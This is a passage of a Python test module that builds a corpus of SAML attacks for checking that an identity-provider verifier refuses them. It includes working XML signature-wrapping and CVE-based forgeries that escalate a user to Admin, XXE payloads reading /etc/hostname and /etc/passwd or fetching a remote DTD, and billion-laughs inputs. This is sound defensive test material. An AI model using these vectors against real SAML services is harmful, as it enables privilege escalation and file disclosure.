"""The SAML attack corpus: one named mutator per attack, one table driving both surfaces.

Every mutator takes a *genuinely signed* base64 ``<samlp:Response>`` (bob's IdP-initiated
login: one role, ``ReadOnly`` in 111122223333) and the ``Keys`` (the IdP's real key pair plus
attacker key pairs generated here) and returns an ``Attack``: the SAMLAssertion to send and the
request around it. ``VECTORS`` maps each name to ``Vector(mutator, sts, console)``:

* ``sts``: ``StsRefusal(code, http_status, message, exact)`` as boto3 must see it, or
  ``StsAccept`` for the few cases where acceptance with the *full* signed value is correct;
* ``console``: ``ConsoleRefusal(rule, http_status)`` as ``POST /aws/saml`` must show it, or
  ``ConsoleAccept``.

``stage(vector)`` says, from the console expectation, where the vector must stop: in the SAML
verifier (a rule from ``Rule.XML`` to ``Rule.IN_RESPONSE_TO``), while decoding the base64
parameter, or later (``accepted`` by the verifier).

"Escalation" attacks rewrite bob into ``admin`` with the ``Admin`` role (``evilize``) and ask
STS for ``Admin``: a verifier fooled into reading the unsigned copy would hand out Admin keys.
Semantic attacks ("the IdP signed a bad value") are re-signed with the real key so that only the
rule under test fails. Where each vector comes from and what refuses it: ``README.md`` here.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import hashlib
import hmac
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final, NamedTuple

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

from idp.errors import Rule
from idp.keys import KeyPair
from idp.saml.signing import Digest, SignatureAlgorithm, SigningPolicy
from tests.support.demo import (
    ADMIN,
    BOB_EMAIL,
    DEV_PROVIDER,
    DEVELOPER,
    PROD,
    PROD_PROVIDER,
    READ_ONLY,
    ROLE_ATTR,
    SESSION_NAME_ATTR,
    SOURCE_IDENTITY_ATTR,
)
from tests.support.http import redirect_value
from tests.support.saml import (
    DS,
    SAML,
    SAMLP,
    assertion_of,
    decode,
    encode,
    now,
    remove_attribute,
    resign_assertion,
    set_attribute,
    set_instant,
    sign,
)

__all__ = [
    "BASE_USER",
    "BOB_SESSION",
    "VECTORS",
    "VERIFIER_RULES",
    "Attack",
    "ConsoleAccept",
    "ConsoleRefusal",
    "Keys",
    "StsAccept",
    "StsRefusal",
    "Vector",
    "make_keys",
    "md5_digest",
    "stage",
    "xslt_transform",
]

#: Every vector starts from this user's genuine Response (one role: ReadOnly in PROD).
BASE_USER: Final = "bob"
BOB_SESSION: Final = BOB_EMAIL
EVIL_NAME: Final = "admin"
EVIL_ROLE: Final = f"{ADMIN},{PROD_PROVIDER}"
#: An account the simulated IAM does not have.
OTHER_ACCOUNT: Final = "999999999999"

SIGNATURE_INVALID: Final = "Response signature invalid"
NOT_AUTHORIZED: Final = "Not authorized to perform sts:AssumeRoleWithSAML"
SESSION_NAME_RULE: Final = "RoleSessionName in AuthnResponse must match [a-zA-Z_0-9+=,.@-]{2,64}"
SOURCE_IDENTITY_RULE: Final = ('Source Identity must match [a-zA-Z_0-9+=,.@-]{2,64} and not '
                               'begin with "aws:"')
TOO_LONG: Final = ("1 validation error detected: Value at 'sAMLAssertion' failed to satisfy "
                   "constraint: Member must have length less than or equal to 100000")

XSLT_ALG: Final = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH_ALG: Final = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSL: Final = "http://www.w3.org/1999/XSL/Transform"
HMAC_SHA256: Final = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
EVIL_URL: Final = "https://evil.example/acs"


# --- what a vector produces and what must come of it --------------------------------------


@dataclass(frozen=True)
class Attack:
    """What to send: the SAMLAssertion plus the request around it."""

    saml: str
    role_arn: str = READ_ONLY
    """STS ``RoleArn`` (escalation attacks ask for Admin)."""
    principal_arn: str = PROD_PROVIDER
    role_index: str | None = None
    """Console ``roleIndex`` (None: let the console pick the only verified role)."""
    replay: bool = False
    """Redeem ``saml`` once (it must succeed) before the attempt under test."""


@dataclass(frozen=True)
class StsRefusal:
    code: str
    status: int
    message: str
    exact: bool = True
    """False: ``message`` only has to occur in AWS's Message."""


@dataclass(frozen=True)
class StsAccept:
    """Accepted, and the identity is the full signed value (never a truncated one)."""

    session_name: str
    subject: str | None = None


@dataclass(frozen=True)
class ConsoleRefusal:
    rule: str
    status: int = 400


@dataclass(frozen=True)
class ConsoleAccept:
    session_name: str
    name_id: str | None = None


@dataclass(frozen=True)
class Keys:
    """The IdP's real key pair and two the provider has never seen."""

    real: KeyPair
    attacker: KeyPair
    """A fresh key with a self-signed ``CN=attacker`` certificate."""
    clone: KeyPair
    """A fresh key whose certificate copies the IdP certificate's subject, issuer and serial."""


Mutator = Callable[[str, Keys], Attack]


class Vector(NamedTuple):
    mutator: Mutator
    sts: StsRefusal | StsAccept
    console: ConsoleRefusal | ConsoleAccept


_RULES: Final = list(Rule)
#: The SAML verifier's own rules (``idp.saml.validation``), in the order it checks them.
VERIFIER_RULES: Final = frozenset(
    _RULES[_RULES.index(Rule.XML):_RULES.index(Rule.IN_RESPONSE_TO) + 1])
#: Console rules for a SAMLAssertion refused while decoding (the second is AWS's error code).
DECODE_RULES: Final = frozenset({Rule.BASE64.value, "ValidationError"})


def stage(vector: Vector) -> str:
    """Where the vector must stop: ``verifier``, ``decode``, or ``accepted`` (by the verifier:
    refused later, by the role, replay or attribute rules, or signed in)."""
    console = vector.console
    if isinstance(console, ConsoleRefusal) and console.rule in VERIFIER_RULES:
        return "verifier"
    if isinstance(console, ConsoleRefusal) and console.rule in DECODE_RULES:
        return "decode"
    return "accepted"


def _certificate(key: rsa.RSAPrivateKey, subject: x509.Name, issuer: x509.Name,
                 serial: int) -> x509.Certificate:
    when = dt.datetime.now(dt.UTC)
    return (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer)
            .public_key(key.public_key()).serial_number(serial)
            .not_valid_before(when - dt.timedelta(days=1))
            .not_valid_after(when + dt.timedelta(days=365))
            .sign(key, hashes.SHA256()))


def make_keys(real: KeyPair) -> Keys:
    """Generate the attacker's key pairs (about 0.1 s: do it once per module)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    attacker = KeyPair(private_key=key, certificate=_certificate(
        key, name, name, x509.random_serial_number()))
    key2 = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    cert = real.certificate
    clone = KeyPair(private_key=key2, certificate=_certificate(
        key2, cert.subject, cert.issuer, cert.serial_number))
    return Keys(real=real, attacker=attacker, clone=clone)


# --- tree helpers --------------------------------------------------------------------------


def _drop_sig(el: etree._Element) -> etree._Element:
    for sig in el.findall(f"{DS}Signature"):
        el.remove(sig)
    return el


def _sig(el: etree._Element) -> etree._Element:
    sig = el.find(f"{DS}Signature")
    assert sig is not None, f"{etree.QName(el).localname} is not signed"
    return sig


def _signed_response(b64: str, keys: KeyPair) -> etree._Element:
    """The base Response signed as a whole (Assertion signature dropped): XSW1/2's input."""
    root = decode(b64)
    _drop_sig(assertion_of(root))
    return sign(root, keys, SigningPolicy(sign_assertion=False, sign_response=True))


def evilize(el: etree._Element) -> None:
    """The malicious edit: bob becomes ``admin`` with the Admin role (in place, recursive)."""
    for name_id in el.iter(f"{SAML}NameID"):
        name_id.text = EVIL_NAME
    for attr in el.iter(f"{SAML}Attribute"):
        values = attr.findall(f"{SAML}AttributeValue")
        if attr.get("Name") == ROLE_ATTR:
            for value in values:
                value.text = EVIL_ROLE
        elif attr.get("Name") == SESSION_NAME_ATTR:
            for value in values:
                value.text = EVIL_NAME


def _evil_copy(assertion: etree._Element, new_id: str | None = "_evil_assertion_ID"
               ) -> etree._Element:
    evil = _drop_sig(copy.deepcopy(assertion))
    evilize(evil)
    if new_id is not None:
        evil.set("ID", new_id)
    return evil


def _digest(el: etree._Element) -> str:
    """SHA-256 of exc-c14n(el without its Signature): what an evil DigestValue would hold."""
    bare = _drop_sig(copy.deepcopy(el))
    c14n = etree.tostring(bare, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.sha256(c14n).digest()).decode()


def _digest_value(sig: etree._Element) -> etree._Element:
    value = sig.find(f"{DS}SignedInfo/{DS}Reference/{DS}DigestValue")
    assert value is not None
    return value


def _after_issuer(parent: etree._Element, child: etree._Element) -> None:
    issuer = parent.find(f"{SAML}Issuer")
    assert issuer is not None
    issuer.addnext(child)


def _subject_data(root: etree._Element) -> etree._Element:
    data = assertion_of(root).find(
        f"{SAML}Subject/{SAML}SubjectConfirmation/{SAML}SubjectConfirmationData")
    assert data is not None
    return data


def _conditions(root: etree._Element) -> etree._Element:
    el = assertion_of(root).find(f"{SAML}Conditions")
    assert el is not None
    return el


def _xml(b64: str) -> bytes:
    return base64.b64decode(b64)


def _b64(xml: bytes) -> str:
    return base64.b64encode(xml).decode("ascii")


def _text_attack(b64: str, edit: Callable[[bytes], bytes], **kwargs: object) -> Attack:
    return Attack(_b64(edit(_xml(b64))), **kwargs)  # type: ignore[arg-type]


# --- XML signature wrapping (SAMLRaider XSWHelpers; Somorovsky et al. 2012) ----------------


def xsw1(b64: str, keys: Keys) -> Attack:
    """Signed Response copied into its own Signature; the root is evilized and renamed."""
    root = _signed_response(b64, keys.real)
    original = _drop_sig(copy.deepcopy(root))
    evilize(root)
    _sig(root).append(original)
    root.set("ID", "_evil_response_ID")
    return Attack(encode(root), role_arn=ADMIN)


def xsw2(b64: str, keys: Keys) -> Attack:
    """As XSW1, but the signed copy is the Signature's preceding sibling (detached)."""
    root = _signed_response(b64, keys.real)
    original = _drop_sig(copy.deepcopy(root))
    evilize(root)
    root.insert(root.index(_sig(root)), original)
    root.set("ID", "_evil_response_ID")
    return Attack(encode(root), role_arn=ADMIN)


def xsw3(b64: str, keys: Keys) -> Attack:
    """An unsigned evil Assertion (new ID) placed before the signed one."""
    root = decode(b64)
    assertion = assertion_of(root)
    root.insert(root.index(assertion), _evil_copy(assertion))
    return Attack(encode(root), role_arn=ADMIN)


def xsw4(b64: str, keys: Keys) -> Attack:
    """The signed Assertion moved inside an unsigned evil one."""
    root = decode(b64)
    assertion = assertion_of(root)
    evil = _evil_copy(assertion)
    root.append(evil)
    evil.append(assertion)
    return Attack(encode(root), role_arn=ADMIN)


def xsw5(b64: str, keys: Keys) -> Attack:
    """The signed Assertion evilized in place (new ID); an untouched copy appended to Response."""
    root = decode(b64)
    assertion = assertion_of(root)
    original = _drop_sig(copy.deepcopy(assertion))
    evilize(assertion)
    root.append(original)
    assertion.set("ID", "_evil_assertion_ID")
    return Attack(encode(root), role_arn=ADMIN)


def xsw6(b64: str, keys: Keys) -> Attack:
    """As XSW5, but the untouched copy sits inside the evil Assertion's Signature."""
    root = decode(b64)
    assertion = assertion_of(root)
    original = _drop_sig(copy.deepcopy(assertion))
    evilize(assertion)
    _sig(assertion).append(original)
    assertion.set("ID", "_evil_assertion_ID")
    return Attack(encode(root), role_arn=ADMIN)


def xsw7(b64: str, keys: Keys) -> Attack:
    """An evil copy with the *same* ID inside an unnamespaced Extensions before the Assertion."""
    root = decode(b64)
    assertion = assertion_of(root)
    extensions = etree.Element("Extensions")
    root.insert(root.index(assertion), extensions)
    extensions.append(_evil_copy(assertion, new_id=None))
    return Attack(encode(root), role_arn=ADMIN)


def xsw8(b64: str, keys: Keys) -> Attack:
    """The Assertion evilized; the untouched original (same ID) in ``Signature/Object``."""
    root = decode(b64)
    assertion = assertion_of(root)
    original = _drop_sig(copy.deepcopy(assertion))
    evilize(assertion)
    etree.SubElement(_sig(assertion), "Object").append(original)
    return Attack(encode(root), role_arn=ADMIN)


def xsw9(b64: str, keys: Keys) -> Attack:
    """xmlseclibs CVE-2019-3465 shape: a fresh SignedInfo beside the original, plus a Wrapper.

    The evil Assertion's Signature holds a new SignedInfo (digest of the evil content) *and* the
    original SignedInfo/SignatureValue; the untouched original sits in an appended ``Wrapper``.
    """
    root = decode(b64)
    assertion = assertion_of(root)
    original = _drop_sig(copy.deepcopy(assertion))
    evilize(assertion)
    sig = _sig(assertion)
    fresh = copy.deepcopy(sig.find(f"{DS}SignedInfo"))
    assert fresh is not None
    ref_value = fresh.find(f"{DS}Reference/{DS}DigestValue")
    assert ref_value is not None
    ref_value.text = _digest(assertion)
    sig.insert(0, fresh)
    wrapper = etree.SubElement(root, "Wrapper")
    wrapper.append(original)
    return Attack(encode(root), role_arn=ADMIN)


def xsw10(b64: str, keys: Keys) -> Attack:
    """ruby-saml 2025 parser differential: IDs via DOCTYPE entities, clone in Signature/Object."""
    root = decode(b64)
    assertion = assertion_of(root)
    original_id = str(assertion.get("ID"))
    clone = copy.deepcopy(assertion)
    evilize(assertion)
    assertion.set("ID", "XSW10-ENTITY-ID")
    response_sig = etree.Element(f"{DS}Signature", nsmap={"ds": DS[1:-1]})
    etree.SubElement(response_sig, f"{DS}Object").append(clone)
    _after_issuer(root, response_sig)
    xml = etree.tostring(root).replace(b'ID="XSW10-ENTITY-ID"', b'ID="&idViaEntity;"')
    doctype = (f'<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "{original_id}">]>\n'
               ).encode()
    return Attack(_b64(doctype + xml), role_arn=ADMIN)


# --- other signature attacks -----------------------------------------------------------------


def signature_stripped(b64: str, keys: Keys) -> Attack:
    """Every ds:Signature removed, then evilized (signature exclusion)."""
    root = decode(b64)
    for sig in list(root.iter(f"{DS}Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    evilize(root)
    return Attack(encode(root), role_arn=ADMIN)


def _with_signature_value(b64: str, text: str) -> Attack:
    """The genuine Response with the Assertion's SignatureValue replaced by ``text``."""
    root = decode(b64)
    value = _sig(assertion_of(root)).find(f"{DS}SignatureValue")
    assert value is not None
    value.text = text
    return Attack(encode(root))


def signature_value_empty(b64: str, keys: Keys) -> Attack:
    """An empty SignatureValue (signxml has raised TypeError on this)."""
    return _with_signature_value(b64, "")


def signature_value_garbage(b64: str, keys: Keys) -> Attack:
    """A SignatureValue of 256 random-looking bytes."""
    return _with_signature_value(b64, base64.b64encode(bytes(range(256))).decode())


def signature_value_not_base64(b64: str, keys: Keys) -> Attack:
    """A SignatureValue that is not base64 at all."""
    return _with_signature_value(b64, "!!not base64!!")


def key_info_empty(b64: str, keys: Keys) -> Attack:
    """An emptied ``<ds:KeyInfo/>`` (signxml's schema check raised DocumentInvalid: a 500)."""
    root = decode(b64)
    key_info = _sig(assertion_of(root)).find(f"{DS}KeyInfo")
    assert key_info is not None
    for child in list(key_info):
        key_info.remove(child)
    return Attack(encode(root))


def attacker_key(b64: str, keys: Keys) -> Attack:
    """Evilized and re-signed with the attacker's key, attacker certificate in KeyInfo."""
    root = decode(b64)
    evilize(root)
    resign_assertion(root, keys.attacker)
    return Attack(encode(root), role_arn=ADMIN)


def attacker_key_cloned_dn(b64: str, keys: Keys) -> Attack:
    """As attacker_key, with a certificate copying the IdP's subject, issuer and serial."""
    root = decode(b64)
    evilize(root)
    resign_assertion(root, keys.clone)
    return Attack(encode(root), role_arn=ADMIN)


def attacker_key_real_cert_in_keyinfo(b64: str, keys: Keys) -> Attack:
    """Signed with the attacker's key but KeyInfo carries the IdP's *real* certificate."""
    root = decode(b64)
    evilize(root)
    resign_assertion(root, KeyPair(private_key=keys.attacker.private_key,
                                   certificate=keys.real.certificate))
    return Attack(encode(root), role_arn=ADMIN)


def reference_unrelated_element(b64: str, keys: Keys) -> Attack:
    """The IdP's genuine signature over an Extensions element, moved into the evil Assertion."""
    root = decode(b64)
    assertion = assertion_of(root)
    _drop_sig(assertion)
    evilize(assertion)
    extensions = etree.Element(f"{SAMLP}Extensions", ID="_other")
    etree.SubElement(extensions, "{urn:example:benign}Note").text = "nothing to see"
    signed = sign(extensions, keys.real)
    sig = _sig(signed)
    signed.remove(sig)  # the enveloped transform removes it anyway: the digest still matches
    _after_issuer(assertion, sig)
    _after_issuer(root, signed)
    return Attack(encode(root), role_arn=ADMIN)


def reference_uri_empty(b64: str, keys: Keys) -> Attack:
    """A genuine whole-document signature (``Reference URI=""``) placed in the Assertion."""
    root = decode(b64)
    _xmlsec_sign(root, keys.real, digest="TransformSha256", uri="")
    reference = root.find(f".//{DS}Reference")
    assert reference is not None and reference.get("URI") == ""
    return Attack(encode(root))


def duplicate_ids(b64: str, keys: Keys) -> Attack:
    """The Response carries the signed Assertion's ID too."""
    root = decode(b64)
    root.set("ID", str(assertion_of(root).get("ID")))
    return Attack(encode(root))


def two_assertions_both_signed(b64: str, keys: Keys) -> Attack:
    """A second, separately IdP-signed Assertion (admin's login) appended to bob's Response."""
    root = decode(b64)
    evil = _evil_copy(assertion_of(root), new_id="_second_signed_assertion")
    root.append(sign(evil, keys.real))
    return Attack(encode(root), role_arn=ADMIN)


def two_assertions_one_unsigned(b64: str, keys: Keys) -> Attack:
    """bob's signed Assertion followed by an unsigned evil one with a new ID."""
    root = decode(b64)
    root.append(_evil_copy(assertion_of(root)))
    return Attack(encode(root), role_arn=ADMIN)


def foreign_namespace_assertion(b64: str, keys: Keys) -> Attack:
    """An evil copy in ``urn:evil:assertion`` placed first (local-name readers pick it)."""
    root = decode(b64)
    assertion = assertion_of(root)
    evil = etree.tostring(_evil_copy(assertion)).replace(
        SAML[1:-1].encode(), b"urn:evil:assertion")
    root.insert(root.index(assertion), etree.fromstring(evil))
    return Attack(encode(root), role_arn=ADMIN)


def encrypted_assertion_decoy(b64: str, keys: Keys) -> Attack:
    """An EncryptedAssertion beside the signed Assertion (this SP does not decrypt)."""
    root = decode(b64)
    decoy = etree.Element(f"{SAML}EncryptedAssertion")
    etree.SubElement(decoy, "{http://www.w3.org/2001/04/xmlenc#}EncryptedData")
    root.append(decoy)
    return Attack(encode(root))


# --- algorithm downgrades and transforms ------------------------------------------------------


def sha1_downgrade(b64: str, keys: Keys) -> Attack:
    """IdP-signed with RSA-SHA1 and SHA-1 digests (the provider does not allow SHA-1)."""
    root = decode(b64)
    resign_assertion(root, keys.real, SigningPolicy(
        signature_algorithm=SignatureAlgorithm.RSA_SHA1, digest=Digest.SHA1))
    return Attack(encode(root))


def _xmlsec_sign(root: etree._Element, keys: KeyPair, *, digest: str,
                 extra_transform: Callable[[etree._Element], None] | None = None,
                 uri: str | None = None) -> None:
    """Sign root's Assertion with libxmlsec (signxml cannot do MD5 or XSLT), in place."""
    import xmlsec  # test-only dependency (python3-saml's)

    assertion = _drop_sig(assertion_of(root))
    template = xmlsec.template.create(assertion, xmlsec.constants.TransformExclC14N,
                                      xmlsec.constants.TransformRsaSha256, ns="ds")
    _after_issuer(assertion, template)
    ref = xmlsec.template.add_reference(template, getattr(xmlsec.constants, digest),
                                        uri=f"#{assertion.get('ID')}" if uri is None else uri)
    xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
    if extra_transform is None:
        xmlsec.template.add_transform(ref, xmlsec.constants.TransformExclC14N)
    else:
        extra_transform(ref)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(template))
    pem = keys.private_key.private_bytes(serialization.Encoding.PEM,
                                         serialization.PrivateFormat.PKCS8,
                                         serialization.NoEncryption())
    ctx = xmlsec.SignatureContext()
    key = xmlsec.Key.from_memory(pem, xmlsec.constants.KeyDataFormatPem)
    key.load_cert_from_memory(keys.cert_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    ctx.key = key
    ctx.register_id(assertion, "ID")
    ctx.sign(template)


def md5_digest(b64: str, keys: Keys) -> Attack:
    """IdP-signed (RSA-SHA256) with an MD5 reference digest: a collision-prone downgrade."""
    root = decode(b64)
    _xmlsec_sign(root, keys.real, digest="TransformMd5")
    return Attack(encode(root))


IDENTITY_XSLT: Final = (
    f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0">'
    '<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/>'
    "</xsl:copy></xsl:template></xsl:stylesheet>"
)


def _xslt(ref: etree._Element) -> None:
    import xmlsec

    transform = xmlsec.template.add_transform(ref, xmlsec.constants.TransformXslt)
    transform.append(etree.fromstring(IDENTITY_XSLT))


def xslt_transform(b64: str, keys: Keys) -> Attack:
    """IdP-signed with an identity XSLT transform: a valid signature that runs a stylesheet."""
    root = decode(b64)
    _xmlsec_sign(root, keys.real, digest="TransformSha256", extra_transform=_xslt)
    return Attack(encode(root))


def xslt_transform_injected(b64: str, keys: Keys) -> Attack:
    """An attacker-added XSLT transform calling ``document()`` (must never be executed)."""
    root = decode(b64)
    transforms = _sig(assertion_of(root)).find(f"{DS}SignedInfo/{DS}Reference/{DS}Transforms")
    assert transforms is not None
    transform = etree.SubElement(transforms, f"{DS}Transform", Algorithm=XSLT_ALG)
    transform.append(etree.fromstring(
        f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0"><xsl:template match="/">'
        '<xsl:copy-of select="document(\'http://127.0.0.1:9/canary\')"/>'
        "</xsl:template></xsl:stylesheet>"))
    return Attack(encode(root))


def _xpath(ref: etree._Element) -> None:
    import xmlsec

    transform = xmlsec.template.add_transform(ref, xmlsec.constants.TransformXPath)
    xpath = etree.SubElement(transform, f"{DS}XPath")
    xpath.text = "not(ancestor-or-self::ds:Signature)"


def xpath_transform(b64: str, keys: Keys) -> Attack:
    """IdP-signed with an XPath filter transform (attacker-chosen node sets, CPU DoS)."""
    root = decode(b64)
    _xmlsec_sign(root, keys.real, digest="TransformSha256", extra_transform=_xpath)
    return Attack(encode(root))


def hmac_with_certificate(b64: str, keys: Keys) -> Attack:
    """Evilized, digest recomputed, SignedInfo "signed" with HMAC keyed by the public cert."""
    root = decode(b64)
    assertion = assertion_of(root)
    evilize(assertion)
    sig = _sig(assertion)
    _digest_value(sig).text = _digest(assertion)
    signed_info = sig.find(f"{DS}SignedInfo")
    method = sig.find(f"{DS}SignedInfo/{DS}SignatureMethod")
    value = sig.find(f"{DS}SignatureValue")
    assert signed_info is not None and method is not None and value is not None
    method.set("Algorithm", HMAC_SHA256)
    c14n = etree.tostring(signed_info, method="c14n", exclusive=True, with_comments=False)
    mac = hmac.new(keys.real.cert_pem.encode(), c14n, hashlib.sha256).digest()
    value.text = base64.b64encode(mac).decode()
    return Attack(encode(root), role_arn=ADMIN)


def c14n_with_comments(b64: str, keys: Keys) -> Attack:
    """IdP-signed with exclusive C14N *WithComments* (comments then change the digest)."""
    root = decode(b64)
    sig = _sig(assertion_of(root))
    method = sig.find(f"{DS}SignedInfo/{DS}CanonicalizationMethod")
    assert method is not None
    method.set("Algorithm", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments")
    return Attack(encode(root))


def comment_in_digest_value(b64: str, keys: Keys) -> Attack:
    """xml-crypto CVE-2025-29775: ``<!--NEWDIGEST-->ORIGDIGEST`` in DigestValue."""
    root = decode(b64)
    assertion = assertion_of(root)
    evilize(assertion)
    value = _digest_value(_sig(assertion))
    original = value.text
    value.text = None
    comment = etree.Comment(_digest(assertion))
    comment.tail = original
    value.append(comment)
    return Attack(encode(root), role_arn=ADMIN)


def digest_value_outside_reference(b64: str, keys: Keys) -> Attack:
    """ruby-saml CVE-2024-45409: the evil digest in an Extensions before the Signature."""
    root = decode(b64)
    assertion = assertion_of(root)
    evilize(assertion)
    extensions = etree.Element(f"{SAMLP}Extensions")
    etree.SubElement(extensions, f"{DS}DigestValue").text = _digest(assertion)
    _after_issuer(root, extensions)
    return Attack(encode(root), role_arn=ADMIN)


def second_signed_info(b64: str, keys: Keys) -> Attack:
    """xml-crypto CVE-2025-29774: a second SignedInfo (evil digest) first in the Signature."""
    root = decode(b64)
    assertion = assertion_of(root)
    evilize(assertion)
    sig = _sig(assertion)
    extra = copy.deepcopy(sig.find(f"{DS}SignedInfo"))
    assert extra is not None
    value = extra.find(f"{DS}Reference/{DS}DigestValue")
    assert value is not None
    value.text = _digest(assertion)
    sig.insert(0, extra)
    return Attack(encode(root), role_arn=ADMIN)


def second_reference(b64: str, keys: Keys) -> Attack:
    """A second Reference in SignedInfo (only one, to the Assertion itself, is allowed)."""
    root = decode(b64)
    signed_info = _sig(assertion_of(root)).find(f"{DS}SignedInfo")
    assert signed_info is not None
    reference = signed_info.find(f"{DS}Reference")
    extra = copy.deepcopy(reference)
    assert extra is not None
    extra.set("URI", "#_other")
    signed_info.append(extra)
    return Attack(encode(root))


# --- XML-level attacks ------------------------------------------------------------------------


def _in_name_id(xml: bytes, replacement: bytes) -> bytes:
    """Replace the NameID's text with ``replacement`` (raw bytes: entity references survive)."""
    root = decode(_b64(xml))
    name_id = assertion_of(root).find(f"{SAML}Subject/{SAML}NameID")
    assert name_id is not None and name_id.text
    marker = b">" + name_id.text.encode() + b"<"
    assert marker in xml
    return xml.replace(marker, b">" + replacement + b"<", 1)


def doctype(b64: str, keys: Keys) -> Attack:
    """A bare DOCTYPE (no entities) in front of the genuine Response."""
    return _text_attack(b64, lambda x: b"<!DOCTYPE samlp:Response>\n" + x)


def xxe_file(b64: str, keys: Keys) -> Attack:
    """XXE: an external SYSTEM entity reading /etc/hostname, used in NameID."""
    return _text_attack(b64, lambda x: (
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
        + _in_name_id(x, b"&xxe;")))


def xxe_parameter_entity(b64: str, keys: Keys) -> Attack:
    """XXE/SSRF through an external parameter entity fetched over http."""
    return _text_attack(b64, lambda x: (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>\n' + x))


def xxe_parameter_entity_dev_zero(b64: str, keys: Keys) -> Attack:
    """A parameter entity naming ``file:///dev/zero``: libxml2 opened it and hung (found here)."""
    return _text_attack(b64, lambda x: (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>\n' + x))


def billion_laughs(b64: str, keys: Keys) -> Attack:
    """Nine levels of ten-fold entity expansion (10^9 characters) in NameID."""
    decl = [b'<!ENTITY a "aaaaaaaaaa">']
    for prev, cur in zip("abcdefgh", "bcdefghi", strict=True):
        decl.append(f'<!ENTITY {cur} "{("&" + prev + ";") * 10}">'.encode())
    head = b"<!DOCTYPE r [" + b"".join(decl) + b"]>\n"
    return _text_attack(b64, lambda x: head + _in_name_id(x, b"&i;"))


def xinclude(b64: str, keys: Keys) -> Attack:
    """An XInclude of /etc/passwd in NameID (never processed)."""
    return _text_attack(b64, lambda x: _in_name_id(
        x, b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"'
           b' parse="text"/>'))


def processing_instruction_xslt(b64: str, keys: Keys) -> Attack:
    """An ``xml-stylesheet`` PI pointing at a remote stylesheet, with an evil NameID."""
    def edit(xml: bytes) -> bytes:
        return (b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/evil.xsl"?>\n'
                + _in_name_id(xml, EVIL_NAME.encode()))
    return _text_attack(b64, edit)


def oversize(b64: str, keys: Keys) -> Attack:
    """A genuine Response padded (trailing comment) past 100,000 base64 characters."""
    return _text_attack(b64, lambda x: x + b"<!--" + b"x" * 76_000 + b"-->")


def deep_nesting(b64: str, keys: Keys) -> Attack:
    """6,000 nested elements inside Extensions (libxml2 stops at depth 256 without huge_tree)."""
    depth = 6_000
    nest = b"<a>" * depth + b"</a>" * depth
    return _text_attack(b64, lambda x: _in_name_id(x, nest))


def utf16_with_bom(b64: str, keys: Keys) -> Attack:
    """The genuine Response re-encoded as UTF-16 with a byte-order mark."""
    return _text_attack(b64, lambda x: (
        '<?xml version="1.0" encoding="UTF-16"?>' + x.decode()).encode("utf-16"))


def utf16_without_bom(b64: str, keys: Keys) -> Attack:
    """The genuine Response as UTF-16LE with an encoding declaration but no BOM."""
    return _text_attack(b64, lambda x: (
        '<?xml version="1.0" encoding="UTF-16"?>' + x.decode()).encode("utf-16-le"))


def latin1_declared(b64: str, keys: Keys) -> Attack:
    """The genuine Response declared (and encoded) as ISO-8859-1."""
    return _text_attack(b64, lambda x: (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>' + x))


def utf8_bom(b64: str, keys: Keys) -> Attack:
    """The genuine Response behind a UTF-8 byte-order mark."""
    return _text_attack(b64, lambda x: b"\xef\xbb\xbf" + x)


def base64_junk(b64: str, keys: Keys) -> Attack:
    """Non-alphabet characters inside the base64 (lenient decoders drop them)."""
    half = len(b64) // 2
    return Attack(b64[:half] + "!*#" + b64[half:])


def base64_trailing_junk(b64: str, keys: Keys) -> Attack:
    """Data after the base64 padding (``====junk``)."""
    return Attack(b64 + "====junk")


def deflated(b64: str, keys: Keys) -> Attack:
    """The Response raw-DEFLATEd (Redirect-binding encoding): never inflated."""
    return Attack(redirect_value(_xml(b64)))


def not_a_response(b64: str, keys: Keys) -> Attack:
    """A bare (signed) Assertion posted without its Response."""
    return Attack(encode(assertion_of(decode(b64))))


# --- SAML semantics (the IdP signed a bad value: re-signed with the real key) -----------------


def _idp_signed(edit: Callable[[etree._Element], object], *, role_arn: str = READ_ONLY,
                principal_arn: str = PROD_PROVIDER, role_index: str | None = None
                ) -> Mutator:
    def mutator(b64: str, keys: Keys) -> Attack:
        root = decode(b64)
        edit(root)
        resign_assertion(root, keys.real)
        return Attack(encode(root), role_arn=role_arn, principal_arn=principal_arn,
                      role_index=role_index)
    mutator.__doc__ = edit.__doc__
    return mutator


def _ago(minutes: float) -> dt.datetime:
    return now() - dt.timedelta(minutes=minutes)


def _expire_conditions(root: etree._Element) -> None:
    """Conditions NotOnOrAfter 3 minutes ago (SubjectConfirmationData still valid)."""
    set_instant(_conditions(root), "NotOnOrAfter", _ago(3))


def _conditions_not_before(root: etree._Element) -> None:
    """Conditions NotBefore 10 minutes ahead."""
    set_instant(_conditions(root), "NotBefore", _ago(-10))


def _expire_confirmation(root: etree._Element) -> None:
